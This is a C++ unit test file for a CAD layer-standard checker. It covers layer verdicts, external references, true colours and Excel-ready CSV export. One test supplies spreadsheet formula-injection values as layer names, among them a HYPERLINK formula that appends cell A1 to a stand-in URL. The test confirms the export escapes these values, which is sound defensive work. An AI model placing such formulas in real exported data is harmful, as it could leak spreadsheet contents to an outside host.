#include "layercheck/layer_check.h"

#include <gtest/gtest.h>

#include <map>
#include <sstream>

#include "builder/layer_set_export.h"
#include "cadlink/command_texts.h"
#include "cadlink/sendable_text.h"
#include "common/utf.h"
#include "dxf/colour_numbers.h"
#include "dxf/layer_table.h"

namespace layercheck {
namespace {

using builder::LayerRow;
using cadlink::DrawingLayer;

stddb::Value t(const char16_t* text) {
    return std::u16string(text);
}
const stddb::Value kNull;

std::optional<stddb::Value> colours(std::u16string_view name) {
    static const std::map<std::u16string, stddb::Value, std::less<>> master = {{u"黄", std::int64_t{2}},
                                                                               {u"白", std::int64_t{7}}};
    const auto found = master.find(name);
    return found == master.end() ? std::nullopt : std::optional<stddb::Value>(found->second);
}

// 一般図 of the sample: D-TTL, D-STR-DIM, the family D-BYP-STRn (family 2) and D-BGD.
const std::vector<LayerRow> kGeneralDrawing = {
    {kNull, kNull, t(u"-TTL"), t(u"図枠"), t(u"実線"), t(u"黄")},
    {kNull, t(u"-DIM"), t(u"-STR"), t(u"寸法"), t(u"実線"), t(u"白")},
    {std::int64_t{2}, t(u"-STRn"), t(u"-BYP"), t(u"副構造物"), kNull, kNull},
    {kNull, kNull, t(u"-BGD"), t(u"現況地物"), t(u"破線"), t(u"任意")},
};

const Row& rowOf(const Result& result, std::u16string_view name) {
    for (const Row& row : result.rows) {
        if (row.name == name) {
            return row;
        }
    }
    static const Row none;
    ADD_FAILURE() << "no row";
    return none;
}

TEST(LayerCheck, ADrawingWithEveryKindOfLayerGetsEveryVerdict) {
    auto table = dxf::readLayerTableFile(TIERMARK_FIXTURES "/every-verdict.dxf");
    ASSERT_TRUE(table.ok()) << table.error().message;
    const Result result = checkLayers(table->layers, standardOf(kGeneralDrawing, 1, colours));

    const std::vector<std::pair<std::u16string, Verdict>> expected = {
        {u"0", Verdict::Fixed},
        {u"D-TTL", Verdict::Standard},
        {u"D-STR-DIM", Verdict::OtherProperties},
        {u"D-BYP-STR1", Verdict::NumberedAllowed},
        {u"D-BYP-STR0", Verdict::NumberedNotAllowed},
        {u"D-STR-STR1", Verdict::NumberedNotAllowed},
        {u"構造物D-BGD", Verdict::NotStandard},
        {u"C-TTL", Verdict::NotStandard},
        {u"壁", Verdict::NotStandard},
        {u"D=BAD", Verdict::Forbidden},
        {u"D-\uFFFD\uFFFD", Verdict::Forbidden},
        {u"Defpoints", Verdict::Fixed},
        {u"D-BGD", Verdict::Missing},
    };
    ASSERT_EQ(result.rows.size(), expected.size());
    for (std::size_t i = 0; i < expected.size(); ++i) {
        EXPECT_EQ(result.rows[i].name, expected[i].first) << i;
        EXPECT_EQ(result.rows[i].verdict, expected[i].second) << i;
    }
    EXPECT_EQ(result.count(Verdict::NotStandard), 3);
    EXPECT_EQ(result.count(Verdict::Fixed), 2);
    EXPECT_EQ(result.count(Verdict::Missing), 1);

    // What each row says about itself.
    EXPECT_EQ(rowOf(result, u"D-STR-DIM").note,
              u"色が 3（基準は 7）、線種が「DASHED」（基準は「Continuous」）");
    EXPECT_EQ(rowOf(result, u"D-BYP-STR1").standardName, u"D-BYP-STRn");
    EXPECT_NE(rowOf(result, u"D-BYP-STR0").note.find(u"番号「0」"), std::u16string::npos);
    EXPECT_NE(rowOf(result, u"D-STR-STR1").note.find(u"この図面名にはない系列"), std::u16string::npos);
    EXPECT_EQ(rowOf(result, u"構造物D-BGD").note, u"レイヤーチェンジャーで「D-BGD」に変換できます");
    EXPECT_EQ(rowOf(result, u"C-TTL").note, u"ライフサイクル記号が選択（D）と異なります");
    EXPECT_EQ(rowOf(result, u"壁").note, u"");
    EXPECT_EQ(rowOf(result, u"D=BAD").note, u"使用できない文字「=」を含みます");
    EXPECT_NE(rowOf(result, u"D-\uFFFD\uFFFD").note.find(u"読めない文字"), std::u16string::npos);
    const Row& missing = rowOf(result, u"D-BGD");
    EXPECT_EQ(missing.standardLinetype, u"破線");
    EXPECT_EQ(missing.standardColour, 8);
    EXPECT_FALSE(missing.colour.has_value());
}

TEST(LayerCheck, NamesCompareWithoutCaseButTheCaseIsNoted) {
    const Result result = checkLayers({{u"d-ttl", 2, u"CONTINUOUS"}, {u"d-bgd", 8, u"破線"}},
                                      standardOf(kGeneralDrawing, 1, colours));
    EXPECT_EQ(result.rows[0].verdict, Verdict::OtherProperties);
    EXPECT_EQ(result.rows[0].note, u"名前の大文字・小文字が基準と異なります");
    EXPECT_EQ(result.rows[1].verdict, Verdict::OtherProperties);
    // D-STR-DIM is missing; D-TTL and D-BGD are there in other case.
    EXPECT_EQ(result.count(Verdict::Missing), 1);
}

TEST(LayerCheck, EveryCharacterAutoCadLtRefusesOrCannotHoldIsForbidden) {
    for (const char16_t* name :
         {u"D<STR", u"D>STR", u"D/STR", u"D\\STR", u"D\"STR", u"D:STR", u"D;STR", u"D?STR", u"D*STR",
          u"D|STR", u"D=STR", u"D'STR", u"D,STR", u"D`STR", u"D\tSTR", u"D-\U0001F600", u"D-\u00E9"}) {
        const Result result =
            checkLayers({{name, 7, u"Continuous"}}, standardOf(kGeneralDrawing, 1, colours));
        EXPECT_EQ(result.rows[0].verdict, Verdict::Forbidden) << std::u16string(name).size();
    }
    const Result japanese =
        checkLayers({{u"構造物①ＤＳＴＲ", 7, u"Continuous"}}, standardOf(kGeneralDrawing, 1, colours));
    EXPECT_EQ(japanese.rows[0].verdict, Verdict::NotStandard);
    const Result tooLong =
        checkLayers({{std::u16string(256, u'A'), 7, u"Continuous"}}, standardOf(kGeneralDrawing, 1, colours));
    EXPECT_EQ(tooLong.rows[0].verdict, Verdict::Forbidden);
}

// One rule decides which names AutoCAD LT can be given: the link does not type them, the export leaves
// them out of both its DXF and its script, and the check calls them forbidden. Blanks anywhere (the command
// line takes a blank as Enter) and the quote ' are among them; the ideographic space is not.
TEST(LayerCheck, TheLinkTheExportAndTheCheckRefuseTheSameNames) {
    const struct {
        std::u16string name;
        bool sendable;
    } cases[] = {
        {u"D-STR", true},
        {u"構造物　D-STR", true},  // U+3000 is a character of the name
        {u" D-STR", false},
        {u"D-STR ", false},
        {u"D STR", false},
        {u"D'STR", false},
        {u"D`STR", false},
        {u"D,STR", false},
        {u"D\tSTR", false},
        {std::u16string(255, u'A'), true},
        {std::u16string(256, u'A'), false},
    };
    const auto titleOnly = builder::layerSetFiles({cadlink::LayerRecord{u"D-TTL", u"D-TTL", u"", 2}});
    ASSERT_TRUE(titleOnly.ok());
    for (const auto& c : cases) {
        const std::string shown = tiermark::toUtf8(cadlink::visibleText(c.name)).substr(0, 20);
        EXPECT_EQ(cadlink::createLayerTexts(c.name).ok(), c.sendable) << shown;

        const Result checked =
            checkLayers({{c.name, 7, u"Continuous"}}, standardOf(kGeneralDrawing, 1, colours));
        EXPECT_EQ(checked.rows[0].verdict == Verdict::Forbidden, !c.sendable) << shown;

        // Exported beside a layer that always goes: the name is in the files exactly when it may be sent.
        auto files = builder::layerSetFiles(
            {cadlink::LayerRecord{c.name, c.name, u"", 7}, cadlink::LayerRecord{u"D-TTL", u"D-TTL", u"", 2}});
        ASSERT_TRUE(files.ok()) << files.error().message;
        EXPECT_EQ(files->leftOut.empty(), c.sendable) << shown;
        std::istringstream dxfText(files->dxf);
        auto table = dxf::readLayerTable(dxfText);
        ASSERT_TRUE(table.ok()) << table.error().message;
        const bool inDxf = std::any_of(table->layers.begin(), table->layers.end(),
                                       [&](const DrawingLayer& layer) { return layer.name == c.name; });
        EXPECT_EQ(inDxf, c.sendable) << shown;
        EXPECT_EQ(files->script == titleOnly->script, !c.sendable) << shown;
    }
}

TEST(LayerCheck, NumberedMembersAreJudgedByTheFamiliesOfTheDrawingKind) {
    // Family 4 lets -STR grow with its -DIM and -TXT companions of the same number.
    const std::vector<LayerRow> rows = {
        {std::int64_t{4}, t(u"-STRn"), t(u"-STR"), t(u"主構造物"), kNull, kNull}};
    const Result result = checkLayers({{u"S-STR-STR9", 3, u"Continuous"},
                                       {u"S-STR-DIMZ", 3, u"Continuous"},
                                       {u"S-STR-TXTA", 3, u"DASHED"},
                                       {u"S-STR-STRn", 7, u"Continuous"},
                                       {u"S-STR-STR10", 7, u"Continuous"}},
                                      standardOf(rows, 0, colours));
    EXPECT_EQ(result.rows[0].verdict, Verdict::NumberedAllowed);
    EXPECT_EQ(result.rows[1].verdict, Verdict::NumberedAllowed);
    EXPECT_EQ(result.rows[2].verdict, Verdict::NumberedAllowed);
    EXPECT_NE(result.rows[2].note.find(u"Continuous"), std::u16string::npos);
    EXPECT_EQ(result.rows[3].verdict, Verdict::NumberedNotAllowed);  // the template's own name
    EXPECT_NE(result.rows[3].note.find(u"雛形"), std::u16string::npos);
    EXPECT_EQ(result.rows[4].verdict, Verdict::NumberedNotAllowed);
    EXPECT_EQ(result.count(Verdict::Missing), 0);
}

TEST(LayerCheck, LayersOfExternalReferencesHaveAVerdictOfTheirOwn) {
    const auto referenced = [](std::u16string name, int colour, std::u16string linetype) {
        DrawingLayer layer{std::move(name), colour, std::move(linetype)};
        layer.xrefDependent = true;
        return layer;
    };
    const Result result = checkLayers({referenced(u"現況図|D-BGD", 8, u"破線"),
                                       referenced(u"現況図|D-TTL", 1, u"実線"),
                                       referenced(u"測量|基準点|壁", 7, u"Continuous"),
                                       {u"D-TTL", 2, u"Continuous"}},
                                      standardOf(kGeneralDrawing, 1, colours));
    struct Expected {
        std::u16string name;
        Verdict referenced;
        std::u16string note;
    };
    const Expected expected[] = {
        {u"現況図|D-BGD", Verdict::Standard,
         u"外部参照「現況図」の画層です（名前は AutoCAD LT が付け、変更できません）。参照先の画層「D-BGD」：標準"},
        {u"現況図|D-TTL", Verdict::OtherProperties,
         u"外部参照「現況図」の画層です（名前は AutoCAD LT が付け、変更できません）。参照先の画層「D-TTL」："
         u"標準名（色・線種が異なる）（色が 1（基準は 2）、線種が「実線」（基準は「Continuous」））"},
        {u"測量|基準点|壁", Verdict::NotStandard,
         u"外部参照「測量|基準点」の画層です（名前は AutoCAD LT が付け、変更できません）。参照先の画層「壁」：標準外"},
    };
    for (std::size_t i = 0; i < std::size(expected); ++i) {
        const Row& row = result.rows[i];
        EXPECT_EQ(row.name, expected[i].name);
        EXPECT_EQ(row.verdict, Verdict::XrefDependent) << i;
        EXPECT_EQ(row.referenced, expected[i].referenced) << i;
        EXPECT_EQ(row.note, expected[i].note) << i;
    }
    EXPECT_EQ(result.rows[0].standardName, u"D-BGD");
    EXPECT_EQ(result.count(Verdict::XrefDependent), 3);
    EXPECT_EQ(result.count(Verdict::Forbidden), 0);
    // What only an external reference holds is still missing from the drawing; the references are no
    // finding, since the user cannot rename them.
    EXPECT_EQ(rowOf(result, u"D-BGD").verdict, Verdict::Missing);
    EXPECT_EQ(result.findings(), 2);  // D-STR-DIM and D-BGD are missing
    // The same name without the flag is a name the user made, with a character AutoCAD LT refuses.
    const Result unflagged =
        checkLayers({{u"現況図|D-BGD", 8, u"破線"}}, standardOf(kGeneralDrawing, 1, colours));
    EXPECT_EQ(unflagged.rows[0].verdict, Verdict::Forbidden);
}

TEST(LayerCheck, ATrueColourIsTheStandardsOnlyWhereItIsTheColourNumbersOwn) {
    struct Case {
        std::uint32_t rgb;
        int number;  // the nearest colour number, which the file gives beside the true colour
        Verdict verdict;
        std::u16string note;
    };
    // D-TTL's standard colour is 2, yellow (255,255,0).
    const Case cases[] = {
        {0xFFFF00, 2, Verdict::Standard, u""},
        {0xFF0000, 2, Verdict::OtherProperties, u"色が 255,0,0（基準は 2）"},
        {0xFFFE00, 2, Verdict::OtherProperties, u"色が 255,254,0（基準は 2）"},
        {0xFFFF00, 1, Verdict::Standard, u""},
    };
    for (const Case& c : cases) {
        DrawingLayer layer{u"D-TTL", c.number, u"Continuous"};
        layer.trueColour = c.rgb;
        const Result result = checkLayers({layer}, standardOf(kGeneralDrawing, 1, colours));
        EXPECT_EQ(result.rows[0].verdict, c.verdict) << c.rgb;
        EXPECT_EQ(result.rows[0].note, c.note) << c.rgb;
        EXPECT_EQ(colourText(result.rows[0].colour, result.rows[0].trueColour), dxf::trueColourText(c.rgb));
    }
    // A numbered member's colour is the user's, true or not.
    DrawingLayer member{u"D-BYP-STR1", 1, u"Continuous"};
    member.trueColour = 0x123456;
    EXPECT_EQ(checkLayers({member}, standardOf(kGeneralDrawing, 1, colours)).rows[0].verdict,
              Verdict::NumberedAllowed);
}

TEST(LayerCheck, NamesThatASpreadsheetWouldTakeForFormulasStayTextInTheCsv) {
    const std::vector<std::pair<std::u16string, std::string>> names = {
        {u"=HYPERLINK(\"http://example.invalid/\"&A1,\"クリック\")",
         "\"'=HYPERLINK(\"\"http://example.invalid/\"\"&A1,\"\"クリック\"\")\""},
        {u"=1+1", "\"'=1+1\""},
        {u"+81-3", "\"'+81-3\""},
        {u"-STR", "\"'-STR\""},
        {u"@SUM(A1)", "\"'@SUM(A1)\""},
        {u"\tD-STR", "\"'\tD-STR\""},
        {u"\rD-STR", "\"'\rD-STR\""},
        {u"D-STR=1", "\"D-STR=1\""},  // only the first character counts
        {u"構造物", "\"構造物\""},
    };
    for (const auto& [name, field] : names) {
        Row row;
        row.name = name;
        const std::string csv = csvOf({row});
        EXPECT_NE(csv.find("\"標準外\"," + field + ","), std::string::npos) << csv;
    }
}

TEST(LayerCheck, SavesTheRowsAsCsvThatExcelOpensWithJapanese) {
    const Result result = checkLayers({{u"構造物\"D\"", 7, u"Continuous"}, {u"D-TTL", 2, u"Continuous"}},
                                      standardOf(kGeneralDrawing, 1, colours));
    const std::string csv = csvOf(result.rows);
    EXPECT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
    const std::string heading =
        "\"判定\",\"図面の画層名\",\"色\",\"線種\",\"基準の画層名\",\"基準の色\",\"基準の線種\",\"説明\"\r\n";
    EXPECT_EQ(csv.substr(3, heading.size()), heading);
    EXPECT_NE(csv.find("\"使用できない文字\",\"構造物\"\"D\"\"\",\"7\",\"Continuous\""), std::string::npos);
    EXPECT_NE(csv.find("\"標準\",\"D-TTL\",\"2\",\"Continuous\",\"D-TTL\",\"2\",\"Continuous\",\"\"\r\n"),
              std::string::npos);
    EXPECT_NE(csv.find("\"図面にない標準レイヤー\",\"D-BGD\",\"\",\"\",\"D-BGD\",\"8\",\"破線\""),
              std::string::npos);
}

}  // namespace
}  // namespace layercheck
